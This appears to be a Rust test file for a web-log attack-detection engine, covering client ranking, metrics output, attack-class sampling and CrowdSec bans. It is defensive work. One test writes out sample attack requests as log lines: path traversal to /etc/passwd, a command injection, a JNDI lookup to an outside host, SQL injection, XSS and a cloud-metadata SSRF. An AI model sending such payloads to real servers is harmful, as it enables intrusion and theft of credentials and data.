//! What pages and the API show.

use super::*;
use crate::sample::Report;

#[test]
fn a_page_has_the_first_of_all_who_are_ranked() {
    let mut engine = engine(BTreeMap::new());
    // Each client asks for more than the last one, so that scores differ until they reach their cap.
    let deeds = (1..=60).flat_map(|client| (0..client).map(move |deed| (client * 7_919 % 251, deed)));
    let lines: String = deeds
        .map(|(client, deed)| {
            format!("203.0.113.{client} - - [03/Apr/2026:10:00:00 +0000] \"GET /{deed}/.env HTTP/1.1\" 404 1 \"-\" \"test\"\n")
        })
        .collect();
    engine.step(NOW, Input::Lines(Batch { lines: lines.into_bytes(), ..batch(0, 0) }));
    let detection = &engine.shared.detection;
    let (top, ranked) = (detection.top(NOW), detection.ranked(NOW));
    assert_eq!((top.len(), ranked.len()), (20, 60));
    assert_eq!(top[..], ranked[..20]);
    assert!(ranked.windows(2).all(|pair| (pair[0].1, pair[1].0) > (pair[1].1, pair[0].0)), "the highest score first, then by address");
}

#[test]
fn a_page_obeys_the_rules() {
    let mut engine = engine(BTreeMap::new());
    engine.step(NOW, Input::Lines(batch(0, 100)));
    let text = engine.page(NOW, 0).render(Exposition::Text);
    let mut families = std::collections::BTreeSet::new();
    for row in text.lines() {
        if let Some(name) = row.strip_prefix("# TYPE ").and_then(|rest| rest.split(' ').next()) {
            assert!(families.insert(name.to_owned()), "{name} stands twice");
            assert!(names::ALL.iter().any(|metric| metric.name == name), "{name} is not on the list");
            assert!(text.contains(&format!("# HELP {name} ")), "{name} has no help");
        }
    }
}

#[test]
fn the_gravest_classes_keep_a_sample_whatever_else_a_client_does() {
    let mut engine = engine(BTreeMap::new());
    // A sample of each of eight classes first, then what weighs most.
    let lesser = [
        "/.env",
        "/owa/auth/x.js",
        "/about",
        "/shell.php",
        "/?page=php://filter/convert.base64-encode/resource=config",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?u=http://169.254.169.254/latest/meta-data/",
        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    ];
    let graver = ["/?f=../../../../etc/passwd", "/?c=;cat%20/etc/passwd", "/?x=$%7Bjndi:ldap://203.0.113.1/a%7D"];
    let lines: String = lesser
        .iter()
        .chain(&graver)
        .enumerate()
        .map(|(n, target)| format!("8.8.4.4 - - [04/Apr/2026:00:10:{n:02} +0000] \"GET {target} HTTP/1.1\" 404 1 \"-\" \"sqlmap/1.8\"\n"))
        .collect();
    let status = Status { up: true, caught_up: true, files: 1, ..Status::default() };
    engine.step(NOW, Input::Lines(Batch { read_bytes: lines.len() as u64, lines: lines.into_bytes(), status, ..Batch::default() }));
    let client = engine.query(NOW, &Query::Client("8.8.4.4".into())).unwrap();
    let samples = client["samples"].as_array().unwrap();
    let classes: Vec<&str> = samples.iter().filter_map(|sample| sample["class"].as_str()).collect();
    for class in ["jndi", "rce_attempt", "path_traversal", "sql_injection"] {
        assert!(classes.contains(&class), "{class} has none: {classes:?}");
    }
    assert!(samples.len() == 8 && samples.is_sorted_by(|a, b| a["at"].as_str() >= b["at"].as_str()));
}

#[test]
fn whom_crowdsec_bans_is_counted_and_a_refusal_is_held_against_nobody() {
    use crate::sample::crowdsec::{Decision, Decisions, Key, Target};
    let mut engine = engine(BTreeMap::new());
    let key = Key { target: Target::Network("203.0.113.0/24".parse().unwrap()), kind: "ban".into() };
    let until = NOW.plus(Duration::from_secs(3_600));
    let decision = Decision { key, origin: "CAPI".into(), scenario: "probing".into(), until };
    let all = Decisions { is_all: true, deleted: Vec::new(), added: vec![decision], left_out: 0 };
    let report = Report { probe: "crowdsec", polled: None, samples: vec![Sample::CrowdSec(all)] };
    engine.step(NOW, Input::Probed(report));
    // Two seconds later.
    let request = |client: &str, path: &str, status: u16| {
        format!("{client} - - [04/Apr/2026:00:30:02 +0000] \"GET {path} HTTP/1.1\" {status} 1 \"-\" \"test\"\n")
    };
    let deeds = |engine: &Engine, client: &str| {
        let client = crate::subject::Client::parse(client.as_bytes()).unwrap();
        engine.shared.detection.suspects.get(client).map(|suspect| suspect.deeds)
    };
    let clients = ["203.0.113.7", "192.0.2.7"];
    for client in clients {
        // One real attack, and then what anybody who is kept out gets.
        let lines: String =
            request(client, "/.env", 403) + &(0..20).map(|number| request(client, &format!("/{number}"), 403)).collect::<String>();
        engine.step(NOW, Input::Lines(Batch { lines: lines.into_bytes(), ..batch(0, 0) }));
    }
    assert_eq!(clients.map(|client| deeds(&engine, client)), [Some(1), Some(21)]);
    let saved = engine.shared.detection.decisions.save();
    assert_eq!(saved["counters"]["requests"], serde_json::json!([["other", 0], ["probing", 21]]));
}
